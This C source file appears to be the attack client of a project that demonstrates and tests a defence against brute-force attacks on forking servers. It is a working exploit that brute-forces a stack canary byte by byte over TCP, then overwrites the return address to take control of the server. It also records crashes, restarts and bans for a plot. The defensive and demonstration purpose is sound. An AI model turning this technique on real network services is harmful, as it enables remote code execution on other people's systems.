// SPDX-License-Identifier: GPL-2.0-or-later
/*
 * brute-demo-client: the attack of `make demo` against brute-demo-server.
 *
 *   brute-demo-client HOST PORT CANARY_OFFSET RET_OFFSET TARGET MAX_ATTEMPTS MAX_SECONDS [HINT]
 *
 * CANARY_OFFSET and RET_OFFSET are the offsets of the stack canary and of the
 * return address from the start of the server's buffer, TARGET the address
 * of its pwned() (the attacker has a copy of the binary: tests/demo/Makefile
 * reads them from it).  One connection per guess:
 *
 *  1. Recover the canary byte by byte.  Its low byte is zero on x86_64 glibc;
 *     for each next byte, send the buffer filled up to it, the bytes known so
 *     far and a guess.  "bye" back: the canary is intact, the guess is right.
 *     The connection closing without "bye": the child crashed (wrong guess).
 *  2. Send the full canary and overwrite the return address with TARGET: the
 *     server's child replies "PWNED".
 *
 * If the server restarts (connection refused: a new process, a new canary),
 * or a byte has no value that survives, the bytes recovered so far are
 * stale: start again from byte 1.  A connection request that gets no answer
 * at all (dropped: this address is banned from the service) is not a
 * restart; after BANNED_S seconds of nothing but dropped requests the attack
 * gives up.  Stops at MAX_ATTEMPTS guesses or after MAX_SECONDS.  HINT,
 * N:CANARY, gives canary bytes 1..N to start with (the shortened run of
 * tests/system/40-demo.sh reads the canary from the server's memory to fit its
 * time budget); they are dropped like recovered ones when the server restarts.
 * Prints its progress and, last, one line:
 *   RESULT outcome=pwned|stopped attempts=N crashes=N restarts=N dropped=N banned=yes|no bytes=N max_bytes=N seconds=S canary=HEX t0=S crashes_s=N,... dropped_s=N,...
 * t0 is its start on CLOCK_MONOTONIC, crashes_s and dropped_s the crashes and the dropped
 * connection requests in each second from it (timeline.h: make demo's plot).
 * Exit status 0 when control was reached, 1 when stopped.
 */
#include <arpa/inet.h>
#include <errno.h>
#include <netinet/in.h>
#include <netinet/tcp.h>
#include <signal.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/socket.h>
#include <time.h>
#include <unistd.h>

#include "timeline.h"

enum reply { R_SURVIVED, R_CRASHED, R_PWNED, R_REFUSED, R_DROPPED };

/* Dropped connection requests for this long: the address is banned. */
#define BANNED_S 5.0

static struct sockaddr_in addr = { .sin_family = AF_INET };

static double now(void)
{
	struct timespec ts;

	clock_gettime(CLOCK_MONOTONIC, &ts);
	return ts.tv_sec + ts.tv_nsec / 1e9;
}

/* One connection: send the payload, read what comes back. */
static enum reply attempt(const unsigned char *payload, uint32_t len)
{
	struct timeval tv = { .tv_sec = 3 }; /* a reply takes ~50 ms under TCG */
	char reply[64] = "";
	size_t got = 0;
	int fd = socket(AF_INET, SOCK_STREAM, 0);

	if (fd < 0) {
		perror("socket");
		exit(2);
	}
	setsockopt(fd, SOL_SOCKET, SO_RCVTIMEO, &tv, sizeof(tv));
	setsockopt(fd, SOL_SOCKET, SO_SNDTIMEO, &tv, sizeof(tv)); /* connect() too */
	if (connect(fd, (struct sockaddr *)&addr, sizeof(addr))) {
		/* Refused: nobody listens.  No answer in time: dropped. */
		enum reply r = errno == ECONNREFUSED ? R_REFUSED : R_DROPPED;

		close(fd);
		return r;
	}
	if (write(fd, &len, sizeof(len)) != sizeof(len) ||
	    write(fd, payload, len) != (ssize_t)len) {
		close(fd);
		return R_CRASHED;
	}
	while (got < sizeof(reply) - 1) {
		ssize_t n = read(fd, reply + got, sizeof(reply) - 1 - got);

		if (n <= 0)
			break;
		got += n;
	}
	close(fd);
	if (strstr(reply, "PWNED"))
		return R_PWNED;
	if (strstr(reply, "bye"))
		return R_SURVIVED;
	return R_CRASHED;
}

int main(int argc, char **argv)
{
	unsigned long attempts = 0, crashes = 0, restarts = 0, dropped = 0, max_attempts;
	unsigned long life_attempts = 0, life_crashes = 0; /* at the last restart */
	double down_at = 0, dropped_since = 0;
	int banned = 0;
	unsigned char payload[512], canary[8] = { 0 };
	int known = 1, max_known = 1, refused = 0, pwned = 0;
	unsigned int canary_off, ret_off, guess = 0;
	double start, max_seconds;
	uint64_t target;
	static struct timeline tl[2]; /* crashes, dropped connection requests */

	if (argc != 8 && argc != 9) {
		fprintf(stderr, "usage: %s HOST PORT CANARY_OFFSET RET_OFFSET TARGET "
			"MAX_ATTEMPTS MAX_SECONDS [N:CANARY]\n", argv[0]);
		return 2;
	}
	setvbuf(stdout, NULL, _IOLBF, 0);
	if (inet_pton(AF_INET, argv[1], &addr.sin_addr) != 1) {
		fprintf(stderr, "bad address %s\n", argv[1]);
		return 2;
	}
	addr.sin_port = htons(atoi(argv[2]));
	canary_off = strtoul(argv[3], NULL, 0);
	ret_off = strtoul(argv[4], NULL, 0);
	target = strtoull(argv[5], NULL, 0);
	max_attempts = strtoul(argv[6], NULL, 0);
	max_seconds = strtod(argv[7], NULL);
	if (ret_off < canary_off + 8 || ret_off + 8 > sizeof(payload)) {
		fprintf(stderr, "bad layout\n");
		return 2;
	}
	if (argc == 9) { /* the hint: canary bytes 1..N */
		char *end;
		unsigned long n = strtoul(argv[8], &end, 10);
		uint64_t value = *end == ':' ? strtoull(end + 1, NULL, 0) : 0;

		if (*end != ':' || n > 7) {
			fprintf(stderr, "bad hint %s\n", argv[8]);
			return 2;
		}
		for (known = 1; known <= (int)n; known++)
			canary[known] = value >> (8 * known);
		printf("given canary bytes 1..%lu: 0x", n);
		for (int i = known - 1; i >= 0; i--)
			printf("%02x", canary[i]);
		printf(" (a shortened run)\n");
		max_known = known;
	}
	signal(SIGPIPE, SIG_IGN);
	memset(payload, 'A', sizeof(payload));
	printf("attacking %s:%s: canary at +%u, return address at +%u, target %#llx\n",
	       argv[1], argv[2], canary_off, ret_off, (unsigned long long)target);
	start = now();
	timeline_start(tl, 2);

	while (attempts < max_attempts && now() - start < max_seconds) {
		enum reply r;
		uint32_t len;

		if (known < 8) { /* guess canary byte `known` */
			memcpy(payload + canary_off, canary, known);
			payload[canary_off + known] = guess;
			len = canary_off + known + 1;
		} else { /* the canary is known: take the return address */
			memcpy(payload + canary_off, canary, 8);
			memset(payload + canary_off + 8, 'B', ret_off - canary_off - 8);
			memcpy(payload + ret_off, &target, 8);
			len = ret_off + 8;
		}
		r = attempt(payload, len);
		if (r == R_DROPPED) { /* no answer at all: this address is banned */
			dropped++;
			timeline_count(&tl[1]);
			if (!dropped_since) {
				dropped_since = now();
				printf("[%6.1fs] connection request dropped: no answer in 3 s\n",
				       now() - start);
			}
			if (now() - dropped_since >= BANNED_S) {
				banned = 1;
				printf("[%6.1fs] every connection request dropped for %.0f s: this "
				       "address is banned from the service; giving up\n",
				       now() - start, now() - dropped_since);
				break;
			}
			continue;
		}
		dropped_since = 0;
		if (r == R_REFUSED) { /* nobody listening: the service is down */
			if (!refused) {
				refused = 1;
				down_at = now();
			}
			usleep(50 * 1000);
			continue;
		}
		if (refused) { /* it is back: a new process, a new canary */
			refused = 0;
			restarts++;
			printf("[%6.1fs] service down after %lu attempt%s (%lu crash%s), back %.1f s later "
			       "(restart %lu): new canary, %d byte%s lost\n", now() - start,
			       attempts - life_attempts, attempts - life_attempts == 1 ? "" : "s",
			       crashes - life_crashes, crashes - life_crashes == 1 ? "" : "es",
			       now() - down_at, restarts, known - 1, known == 2 ? "" : "s");
			life_attempts = attempts;
			life_crashes = crashes;
			if (known > 1 || guess) {
				known = 1;
				guess = 0;
				continue;
			}
		}
		attempts++;
		if (r == R_PWNED) {
			pwned = 1;
			printf("[%6.1fs] attempt %lu: return address overwritten, the server says "
			       "PWNED: control reached\n", now() - start, attempts);
			break;
		}
		if (r == R_SURVIVED) {
			if (known == 8) {
				printf("[%6.1fs] attempt %lu: server survived the takeover, no PWNED\n",
				       now() - start, attempts);
				known = 1;
				guess = 0;
				continue;
			}
			canary[known] = guess;
			printf("[%6.1fs] attempt %lu: canary byte %d = 0x%02x (crashes so far: %lu)\n",
			       now() - start, attempts, known, guess, crashes);
			known++;
			if (known > max_known)
				max_known = known;
			guess = 0;
			if (known == 8) {
				printf("[%6.1fs] canary recovered: 0x", now() - start);
				for (int i = 7; i >= 0; i--)
					printf("%02x", canary[i]);
				printf("\n");
			}
			continue;
		}
		crashes++;
		timeline_count(&tl[0]);
		if (known == 8 || ++guess > 255) { /* nothing survives: stale bytes */
			printf("[%6.1fs] attempt %lu: no value of byte %d survives: start over\n",
			       now() - start, attempts, known);
			known = 1;
			guess = 0;
		}
	}
	printf("RESULT outcome=%s attempts=%lu crashes=%lu restarts=%lu dropped=%lu banned=%s "
	       "bytes=%d max_bytes=%d seconds=%.1f canary=0x", pwned ? "pwned" : "stopped",
	       attempts, crashes, restarts, dropped, banned ? "yes" : "no", known - 1,
	       max_known - 1, now() - start);
	for (int i = 7; i >= 0; i--)
		printf("%02x", i < known ? canary[i] : 0);
	printf(" t0=%.3f", tl[0].t0);
	timeline_print(stdout, "crashes_s", &tl[0], (int)(now() - tl[0].t0));
	timeline_print(stdout, "dropped_s", &tl[1], (int)(now() - tl[0].t0));
	printf("\n");
	return pwned ? 0 : 1;
}
